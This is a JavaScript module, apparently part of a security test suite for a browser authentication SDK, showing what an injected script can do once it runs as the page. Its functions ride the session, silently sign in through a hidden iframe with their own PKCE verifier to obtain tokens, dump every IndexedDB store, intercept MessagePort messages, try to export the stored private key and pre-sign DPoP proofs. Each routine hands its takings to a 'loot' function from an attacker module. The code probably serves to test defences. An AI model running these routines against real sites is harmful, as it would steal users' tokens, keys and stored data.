// What a script can do, since it is the page: use the session, sign in for itself, use what is stored in place.
import { loot } from "./attacker.js";
import { digest } from "./reads.js";
import { done, memories } from "./stored.js";

const { tw } = window;

/** Calls the API as the page does, and takes the answer away. */
export async function useSession(attack, url) {
  const answer = await tw.auth.fetch(url);
  const text = await answer.text();
  loot(attack, text);
  return [answer.status, text];
}

/** Ends the session, by the client's own means. */
export async function signOut(attack) {
  await tw.auth.signOut({ local: true });
  loot(attack, tw.auth.state);
  return tw.auth.state.status;
}

/** Signs in with a verifier of its own, in a frame that no script runs in. */
export async function signInForItself(attack, redirectUri, client = tw.settings.options) {
  const { issuer, clientId } = client;
  const verifier = "v".repeat(43);
  const hash = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier));
  const challenge = btoa(String.fromCharCode(...new Uint8Array(hash)))
    .replaceAll("+", "-")
    .replaceAll("/", "_")
    .replaceAll("=", "");
  const query = new URLSearchParams({
    response_type: "code",
    client_id: clientId,
    redirect_uri: redirectUri,
    scope: "openid",
    prompt: "none",
    state: "s",
    code_challenge: challenge,
    code_challenge_method: "S256",
  });
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-same-origin";
  frame.src = `${issuer}/auth?${query}`;
  document.body.append(frame);
  let code;
  for (let tries = 0; tries < 800 && !code; tries += 1) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    try {
      code = new URL(frame.contentWindow.location.href).searchParams.get("code");
    } catch {
      // It is still at the provider.
    }
  }
  if (!code) return "no code";
  const body = new URLSearchParams({
    grant_type: "authorization_code",
    client_id: clientId,
    redirect_uri: redirectUri,
    code,
    code_verifier: verifier,
  });
  const answer = await fetch(`${issuer}/token`, { method: "POST", body });
  const tokens = await answer.json();
  loot(attack, tokens);
  return Object.keys(tokens);
}

/** Everything that IndexedDB has, with the address of the page: on a callback page, before the SDK. */
export async function readTransaction(attack) {
  const found = [location.href];
  for (const { name } of await indexedDB.databases()) {
    const base = await done(indexedDB.open(name));
    for (const store of base.objectStoreNames) {
      found.push(await done(base.transaction(store).objectStore(store).getAll()));
    }
    base.close();
  }
  loot(attack, found);
}

/** Listens to what the application hands to the vault. */
export function hearHandIn(attack) {
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...args) {
    loot(attack, args);
    return Reflect.apply(postMessage, this, args);
  };
}

/** Reads an answer in bytes. */
export async function readDownload(attack, url) {
  const answer = await tw.auth.fetch(url);
  loot(attack, await answer.arrayBuffer());
  return answer.status;
}

/** The key of the client's bound tokens, as it is stored. */
async function storedKey() {
  const { clientId } = tw.settings.options;
  const isKey = ([name]) => name.startsWith("key ") && name.endsWith(` ${clientId}`);
  return (await memories()).find(isKey)?.[1];
}

/** Tries to have the private key in every form. */
export async function exportKey(attack) {
  const { privateKey, publicKey } = await storedKey();
  const outcomes = [];
  for (const format of ["jwk", "pkcs8", "raw"]) {
    const exported = crypto.subtle.exportKey(format, privateKey);
    outcomes.push(
      await exported.then(
        (key) => [key],
        ({ name }) => name,
      ),
    );
  }
  const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, [
    "wrapKey",
  ]);
  const iv = new Uint8Array(12);
  const wrapped = crypto.subtle.wrapKey("pkcs8", privateKey, wrapping, { name: "AES-GCM", iv });
  outcomes.push(
    await wrapped.then(
      (key) => [key],
      ({ name }) => name,
    ),
  );
  loot(attack, [outcomes, await crypto.subtle.exportKey("jwk", publicKey)]);
  return outcomes;
}

/** Signs proofs for later, as many as it likes, and shows what the API says to one without a token. */
export async function signProofs(attack, url, count) {
  const { privateKey, publicKey } = await storedKey();
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", publicKey);
  const text = new TextEncoder();
  const encoded = (bytes) =>
    btoa(String.fromCharCode(...bytes))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
  const header = { typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } };
  const now = Math.floor(Date.now() / 1000);
  const proofs = [];
  for (let at = 0; at < count; at += 1) {
    const claims = { htm: "GET", htu: url, iat: now + at, jti: await digest(`${at}`) };
    const signed = [header, claims]
      .map((part) => encoded(text.encode(JSON.stringify(part))))
      .join(".");
    const algorithm = { name: "ECDSA", hash: "SHA-256" };
    const signature = await crypto.subtle.sign(algorithm, privateKey, text.encode(signed));
    proofs.push(`${signed}.${encoded(new Uint8Array(signature))}`);
  }
  loot(attack, proofs);
  const alone = await fetch(url, { headers: { DPoP: proofs[0] } });
  const guessed = await fetch(url, { headers: { DPoP: proofs[1], Authorization: "DPoP x.y.z" } });
  return [proofs.length, alone.status, guessed.status];
}
